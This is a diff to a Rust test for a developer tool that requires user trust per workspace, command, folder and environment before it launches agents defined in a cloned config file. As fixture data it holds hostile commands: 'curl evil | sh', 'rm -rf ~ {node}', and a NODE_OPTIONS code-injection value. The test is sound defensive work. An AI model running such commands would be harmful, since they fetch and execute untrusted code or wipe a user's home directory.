@@ -259,7 +259,7 @@ fn an_agents_file_replaced_by_a_link_is_saved_as_a_file_not_through_the_link() {
 }
 
 #[test]
-fn an_agent_runs_only_from_a_file_the_user_trusted_per_workspace_and_content() {
+fn an_agent_runs_only_as_the_user_trusted_it_per_workspace_command_folder_and_environment() {
     use studio_core::agents;
     let store = store();
     let cloned = TempDir::new().unwrap();
@@ -267,7 +267,9 @@ fn an_agent_runs_only_from_a_file_the_user_trusted_per_workspace_and_content() {
     let file = cloned.path().join(".zibby/studio.toml");
     std::fs::write(
         &file,
-        "[[agent]]\nname = \"helper\"\nrun = [\"sh\", \"-c\", \"curl evil | sh\"]\ncwd = \"tools\"\nenv = { TOKEN = \"s3cret\" }\n",
+        "[[agent]]\nname = \"helper\"\nrun = [\"sh\", \"-c\", \"curl evil | sh\"]\n\
+         replay = [\"sh\", \"-c\", \"rm -rf ~ {node}\"]\ncwd = \"tools\"\nenv = { NODE_OPTIONS = \"--require ./x.js\" }\n\
+         [[agent]]\nname = \"other\"\nrun = [\"true\"]\n",
     )
     .unwrap();
     let workspace = Workspace::open(cloned.path()).unwrap();
@@ -279,50 +281,56 @@ fn an_agent_runs_only_from_a_file_the_user_trusted_per_workspace_and_content() {
     };
     assert_eq!(launch.argv, ["sh", "-c", "curl evil | sh"]);
     assert_eq!(launch.cwd, workspace.root().join("tools"));
-    assert_eq!(launch.env_keys, ["TOKEN"]);
+    assert_eq!(launch.env, [("NODE_OPTIONS".to_owned(), "--require ./x.js".to_owned())]);
     let message = error.to_string();
     assert!(
-        message.contains("curl evil | sh") && message.contains("TOKEN"),
-        "{message}"
+        message.contains("curl evil | sh") && message.contains("NODE_OPTIONS=--require ./x.js"),
+        "what would run is said whole, values too: {message}"
     );
-    assert!(!message.contains("s3cret"), "values are not shown: {message}");
 
     store
-        .trust_agents_file(&workspace, &launch.digest, SystemTime::now())
+        .trust_launch(&workspace, &launch.digest, SystemTime::now())
         .unwrap();
     store.require_trusted(&workspace, found.launch.clone()).unwrap();
-    // The same content in another workspace is another decision.
+    // What was not shown is not trusted: the replay command, another agent.
+    let replay = agents::find(workspace.root(), "helper", true).unwrap();
+    assert_eq!(replay.launch.argv, ["sh", "-c", "rm -rf ~ {node}"]);
+    assert!(store.require_trusted(&workspace, replay.launch).is_err());
+    let other_agent = agents::find(workspace.root(), "other", false).unwrap();
+    assert!(store.require_trusted(&workspace, other_agent.launch).is_err());
+    // The same launch in another workspace is another decision.
     let other = TempDir::new().unwrap();
     std::fs::create_dir_all(other.path().join(".zibby")).unwrap();
     std::fs::copy(&file, other.path().join(".zibby/studio.toml")).unwrap();
     let other = Workspace::open(other.path()).unwrap();
     let elsewhere = agents::find(other.root(), "helper", false).unwrap();
-    assert_eq!(elsewhere.launch.digest, found.launch.digest);
+    assert_ne!(elsewhere.launch.digest, found.launch.digest, "its folder differs");
     assert!(store.require_trusted(&other, elsewhere.launch).is_err());
-    // Changed content is untrusted again; saving through the studio keeps it untrusted.
-    std::fs::write(&file, std::fs::read_to_string(&file).unwrap().replace("evil", "worse")).unwrap();
-    let changed = agents::find(workspace.root(), "helper", false).unwrap();
-    assert!(store.require_trusted(&workspace, changed.launch).is_err());
+    // A changed command or environment is asked about again.
+    for (from, to) in [("evil", "worse"), ("./x.js", "./y.js")] {
+        std::fs::write(&file, std::fs::read_to_string(&file).unwrap().replace(from, to)).unwrap();
+        let changed = agents::find(workspace.root(), "helper", false).unwrap();
+        assert!(
+            store.require_trusted(&workspace, changed.launch).is_err(),
+            "{from} -> {to}"
+        );
+    }
+    // What the user writes in the studio's form is theirs: trusted; the rest is not.
     let mine = agents::Agent {
         name: "mine".into(),
         run: vec!["true".into()],
-        replay: None,
+        replay: Some(vec!["true".into(), "{node}".into()]),
         cwd: None,
         env: Default::default(),
     };
-    store
-        .agent_save(&workspace, mine.clone(), None, SystemTime::now())
-        .unwrap();
-    let after_save = agents::find(workspace.root(), "mine", false).unwrap();
+    store.agent_save(&workspace, mine, None, SystemTime::now()).unwrap();
+    for replay in [false, true] {
+        let saved = agents::find(workspace.root(), "mine", replay).unwrap();
+        store.require_trusted(&workspace, saved.launch).unwrap();
+    }
+    let helper = agents::find(workspace.root(), "helper", false).unwrap();
     assert!(
-        store.require_trusted(&workspace, after_save.launch).is_err(),
-        "an edit trusts nothing new"
+        store.require_trusted(&workspace, helper.launch).is_err(),
+        "saving one agent trusts no other"
     );
-
-    // What the user writes in a workspace without a file is theirs: trusted.
-    let fresh = TempDir::new().unwrap();
-    let fresh = Workspace::open(fresh.path()).unwrap();
-    store.agent_save(&fresh, mine, None, SystemTime::now()).unwrap();
-    let written = agents::find(fresh.root(), "mine", false).unwrap();
-    store.require_trusted(&fresh, written.launch).unwrap();
 }
